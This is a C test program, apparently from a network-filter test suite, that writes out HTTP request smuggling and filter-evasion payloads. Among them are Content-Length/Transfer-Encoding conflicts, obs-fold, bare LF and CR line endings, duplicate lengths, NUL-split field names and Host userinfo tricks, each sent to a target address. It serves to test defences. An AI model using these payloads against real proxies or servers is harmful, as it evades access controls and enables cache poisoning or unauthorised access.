/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * ADDR PORT NAME SHAPE TEXT: a request of HTTP/1.1 (RFC 9112) for NAME, with TEXT in it behind the
 * name, written in one of many shapes. In most of them a first name, allowed.test, stands where a
 * filter may look and a server may not. Waits for one answer.
 */
#include "attack.h"

#define LONG_BYTES 12000

static char wire[4 * LONG_BYTES];
static size_t length;

static void put_bytes(const void *bytes, size_t count)
{
	memcpy(wire + length, bytes, count);
	length += count;
}

static void put(const char *text)
{
	put_bytes(text, strlen(text));
}

/* A request whose head ends with TEXT in a field of its own. */
static void put_request(const char *first_line, const char *fields, const char *name, const char *text)
{
	put(first_line);
	put(fields);
	put("Host: ");
	put(name);
	put("\r\nX-Text: ");
	put(text);
	put("\r\n\r\n");
}

static void put_many(size_t count)
{
	memset(wire + length, 'a', count);
	length += count;
}

int main(int argc, char **argv)
{
	static const char get[] = "GET / HTTP/1.1\r\n", post[] = "POST / HTTP/1.1\r\n";
	static const char first[] = "Host: allowed.test\r\n";

	if (argc != 6)
		usage("http ADDR PORT NAME bytes|lines|feeds|empty-lines|long|too-long|pipelined|body|large-body|chunks|two|"
		      "length-and-chunks|coding|version|lengths|length-gap|length-nul|length-feed|chunk-end|chunk-feed|"
		      "fold|blank|return|port|absolute|user|tunnel|preface TEXT");
	struct endpoint to = endpoint(argv[1], argv[2]);
	const char *name = argv[3], *shape = argv[4], *text = argv[5];

	if (!strcmp(shape, "bytes") || !strcmp(shape, "lines")) {
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "empty-lines")) {
		put("\r\n\r\n");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "long") || !strcmp(shape, "too-long")) {
		put(get);
		put("X-Long: ");
		put_many(shape[0] == 'l' ? LONG_BYTES : LONG_BYTES * 2);
		put_request("\r\n", "", name, text);
	} else if (!strcmp(shape, "pipelined")) {
		put_request(get, "", "allowed.test", "first");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "body")) {
		put_request(post, "Content-Length: 5\r\n", "allowed.test", "first");
		put("12345");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "large-body")) {
		put_request(post, "Content-Length: 24000\r\n", "allowed.test", "first");
		put_many(2 * LONG_BYTES);
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "chunks")) {
		put_request(post, "Transfer-Encoding: chunked\r\n", "allowed.test", "first");
		put("5;a=b\r\n12345\r\n0\r\nX-Trailer: 1\r\n\r\n");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "two")) {
		put_request(get, first, name, text);
	} else if (!strcmp(shape, "length-and-chunks")) {
		/* To one that goes by the length, this ends before the second request. */
		put_request(post, "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", "allowed.test", "first");
		put("0ff\r\n");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "coding")) {
		/* No body, says the coding; to one that takes each for chunked, ADD is a chunk's size. */
		put_request(post, "Transfer-Encoding: identity\r\n", "allowed.test", "first");
		put_request("ADD / HTTP/1.1\r\n", "", name, text);
	} else if (!strcmp(shape, "version")) {
		/* HTTP/1.0 has no chunks (section 6.1): to one that knows it, ADD is the next method. */
		put_request("POST / HTTP/1.0\r\n", "Transfer-Encoding: chunked\r\n", "allowed.test", "first");
		put_request("ADD / HTTP/1.1\r\n", "", name, text);
	} else if (!strcmp(shape, "chunk-end")) {
		/* What ends a chunk is CRLF (section 7.1): one that takes a whole line for it reads no chunk of 0ff. */
		put_request(post, "Transfer-Encoding: chunked\r\n", "allowed.test", "first");
		put("5\r\n12345XX0ff\r\n0\r\n\r\n");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "chunk-feed")) {
		/* To one that ends lines at CRLF only, an extension goes on behind the bare LF. */
		put_request(post, "Transfer-Encoding: chunked\r\n", "allowed.test", "first");
		put("5;\n0ff\r\n12345\r\n0\r\n\r\n");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "lengths")) {
		put_request(post, "Content-Length: 0\r\nContent-Length: 900\r\n", "allowed.test", "first");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "length-gap")) {
		put_request(post, "Content-Length: 0 900\r\n", "allowed.test", "first");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "length-nul")) {
		/* No field of that name (section 5.1), to one that does not end names at a NUL. */
		static const char field[] = "Content-Length\0: 900\r\n";

		put(post);
		put_bytes(field, sizeof(field) - 1);
		put_request("", "", "allowed.test", "first");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "length-feed")) {
		/* To one that ends lines at CRLF only, the length is a part of the field before. */
		put_request(post, "X-Line: a\nContent-Length: 900\r\n", "allowed.test", "first");
		put_request(get, "", name, text);
	} else if (!strcmp(shape, "feeds")) {
		put("GET / HTTP/1.1\nHost: ");
		put(name);
		put("\nX-Text: ");
		put(text);
		put("\n\n");
	} else if (!strcmp(shape, "port")) {
		/* An authority has user information (RFC 3986 section 3.2.1), a Host has none; some take it all the same. */
		put(get);
		put("Host: allowed.test:80@");
		put(name);
		put("\r\nX-Text: ");
		put(text);
		put("\r\n\r\n");
	} else if (!strcmp(shape, "tunnel")) {
		/* CONNECT has no body (RFC 9110 section 9.3.6): what follows is in the tunnel, whatever length is said. */
		put("CONNECT ");
		put(name);
		put_request(":443 HTTP/1.1\r\n", "Content-Length: 900\r\n", name, "first");
		put(text);
	} else if (!strcmp(shape, "fold")) {
		/* obs-fold (section 5.2): one that does not know it reads a field of its own. */
		put(get);
		put(first);
		put_request("X-Fold: a\r\n ", "", name, text);
	} else if (!strcmp(shape, "blank")) {
		/* No space may stand before the colon (section 5.1); some take it all the same. */
		put(get);
		put("Host : ");
		put(name);
		put_request("\r\n", "", "allowed.test", text);
	} else if (!strcmp(shape, "return")) {
		/* A bare CR ends a line for some (section 2.2). */
		put(get);
		put("X-Line: a\rHost: ");
		put(name);
		put_request("\r\n", "", "allowed.test", text);
	} else if (!strcmp(shape, "absolute")) {
		put("GET http://");
		put(name);
		put_request("/ HTTP/1.1\r\n", "", "allowed.test", text);
	} else if (!strcmp(shape, "user")) {
		/* What a proxy takes for name and password. */
		put("GET http://allowed.test:80x@");
		put(name);
		put_request("/ HTTP/1.1\r\n", "", "allowed.test", text);
	} else if (!strcmp(shape, "preface")) {
		/* HTTP/2 with prior knowledge (RFC 9113 section 3.4): what follows is no text. */
		put("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
		put(text);
	} else {
		usage("http … SHAPE");
	}
	int fd = opened(to.family, SOCK_STREAM, 0);
	char answer;

	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &(int){ 1 }, sizeof(int));
	if (connect(fd, sockaddr(&to), to.length))
		refused("connect");
	for (size_t at = 0, count = length; at < length; at += count) {
		count = length - at;
		if (!strcmp(shape, "bytes"))
			count = 1;
		else if (!strcmp(shape, "lines"))
			count = (size_t)((char *)memchr(wire + at, '\n', count) - (wire + at)) + 1;
		send_all(fd, wire + at, count);
	}
	/* To these the server waits for more. */
	if (!strcmp(shape, "lengths") || !strcmp(shape, "length-feed"))
		deadline(fd, 1500);
	if (recv(fd, &answer, 1, 0) < 0)
		refused("recv");
	shutdown(fd, SHUT_WR);
	return EXIT_SENT;
}
